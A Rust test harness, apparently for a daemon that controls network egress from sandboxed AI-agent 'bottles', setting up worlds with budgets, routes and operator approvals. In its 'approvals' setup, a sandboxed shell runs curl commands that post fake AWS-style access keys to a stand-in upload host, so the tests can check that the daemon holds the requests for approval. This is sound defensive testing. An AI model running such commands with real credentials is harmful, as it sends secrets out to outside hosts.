//! A host on which a page's commands are typed, as its reader has one.

use std::collections::BTreeMap;
use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;

use anyhow::{Context, Result, bail, ensure};
use harness::console::Terminals;
use harness::world::{Bottle, Done, PATIENCE, World, program, until};

/// Where gates are pinned on a reader's host.
const PINS: &str = "/sys/fs/bpf/egress";
/// Where the sockets are.
const RUN: &str = "/run/egress";
/// What a host has whose daemon runs.
const SETTINGS: &str = "\
budget:
  claude: 5M
agents:
  reviewer:
    budget:
      claude: 2M
bottles:
  web:
    extends: base
  base:
    budget:
      claude: 1M/day
";
const ROUTES: &str = "\
auth: passthrough
routes:
  - host: api.github.com
    methods: GET
";
/// What somebody else's resolver would say.
const UPLOADS: &str = "uploads.corp.example";

/// What no bottle should send.
const KEYS: [&str; 3] = ["AKIAZ7Q2MX4JT5R3WLHB", "AKIA5TQ7HX2JN4R3WLCD", "AKIAQ3ZT6MX4JB2RWLHE"];

/// The host, and shells on it and in its bottles.
pub(crate) struct Stage {
    bottles: BTreeMap<String, Bottle>,
    shell: Bottle,
    world: World,
}

impl Stage {
    /// `bare`: no daemon has run; `running`: a daemon, and a bottle `web` that has asked something; `approvals`: three
    /// more of its requests wait for the operator.
    pub(crate) fn set(name: &str) -> Result<Self> {
        let mut world = World::prepare(if name == "bare" { "" } else { SETTINGS })?;
        // As the daemon makes it.
        fs::set_permissions(&world.names.home, Permissions::from_mode(0o700))?;
        let user = user_of(&world)?;
        let mut bottles = BTreeMap::new();
        match name {
            "bare" => {}
            "running" | "approvals" => {
                if name == "approvals" {
                    world.write_settings_for(SETTINGS, &["api.anthropic.com", UPLOADS])?;
                    let route = format!("  - host: {UPLOADS}\n    outbound_on_match: supervise\n");
                    world.write_routes(&format!("{ROUTES}{route}"))?;
                } else {
                    world.write_routes(ROUTES)?;
                }
                world.start_daemon()?;
                let mut web = world.shell_in("web", &user, &["--agent", "reviewer"])?;
                ensure!(web.ask("claude-test+input-900+output-50")?.status == 200, "the provider did not answer");
                if name == "approvals" {
                    let send = |key: &str| format!("curl -s -d {key} https://{UPLOADS}/v2/objects & sleep 0.5; ");
                    web.begin(&format!("{} wait", KEYS.map(send).concat()))?;
                    let wait =
                        || Ok(world.egress(&["approvals", "list"])?.output.matches("waits").count() == KEYS.len());
                    until("the requests wait", PATIENCE, wait)?;
                    bottles.insert("busy".to_owned(), web);
                } else {
                    bottles.insert("web".to_owned(), web);
                }
            }
            other => bail!("there is no world {other:?}: bare, running, approvals"),
        }
        let shell = shell_of(&world, &user)?;
        Ok(Self { bottles, shell, world })
    }

    fn as_a_reader_sees(&self, done: Done) -> Done {
        let names = &self.world.names;
        let own = [(&names.pins, PINS), (&names.run, RUN)];
        let output =
            own.iter().fold(done.output, |text, (ours, theirs)| text.replace(&ours.display().to_string(), theirs));
        Done { output, ..done }
    }
}

impl Terminals for Stage {
    fn on_host(&mut self, text: &str) -> Result<Done> {
        let names = &self.world.names;
        let own = [(PINS, &names.pins), (RUN, &names.run)];
        let text =
            own.iter().fold(text.to_owned(), |text, (theirs, ours)| text.replace(theirs, &ours.display().to_string()));
        let done = self.shell.sh(&text).with_context(|| format!("`{text}`"))?;
        Ok(self.as_a_reader_sees(done))
    }

    fn inside(&mut self, bottle: &str, text: &str) -> Result<Done> {
        if !self.bottles.contains_key(bottle) {
            let user = user_of(&self.world)?;
            self.bottles.insert(bottle.to_owned(), self.world.shell_in(bottle, &user, &[])?);
        }
        let shell = self.bottles.get_mut(bottle).context("a bottle")?;
        let done = shell.sh(text).with_context(|| format!("`{text}` in {bottle}"))?;
        Ok(self.as_a_reader_sees(done))
    }
}

/// A home directory in which `~/.bot-bottle` is the daemon's.
fn user_of(world: &World) -> Result<std::path::PathBuf> {
    let user = world.names.directory.join("user");
    if !user.exists() {
        fs::create_dir(&user)?;
        symlink(&world.names.home, user.join(".bot-bottle"))?;
    }
    Ok(user)
}

fn shell_of(world: &World, user: &Path) -> Result<Bottle> {
    let names = &world.names;
    let programs = names.directory.join("programs");
    fs::create_dir(&programs)?;
    let (egress, pins, bridge) = (program("egress"), names.pins.display(), &names.bridge);
    let egress = egress.display();
    let own = format!(
        "#!/bin/sh\ncase \"$1\" in\n\
         daemon) shift; exec {egress} daemon --pins {pins} --bridge {bridge} \"$@\" ;;\n\
         doctor) shift; exec {egress} doctor --bridge {bridge} \"$@\" ;;\nesac\nexec {egress} \"$@\"\n"
    );
    for (name, text) in [("egress", own.as_str()), ("sudo", "#!/bin/sh\nexec \"$@\"\n")] {
        let path = programs.join(name);
        fs::write(&path, text)?;
        fs::set_permissions(&path, Permissions::from_mode(0o755))?;
    }
    let path = format!("{}:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", programs.display());
    let mut bash = Command::new("bash");
    bash.current_dir(user).env_clear().env("PATH", path).env("HOME", user).env("LANG", "C.UTF-8").env("USER", "root");
    bash.env("BOT_BOTTLE_HOME", &names.home).env("EGRESS_RUN_DIR", &names.run);
    world.host.run(|| Bottle::start(bash))
}
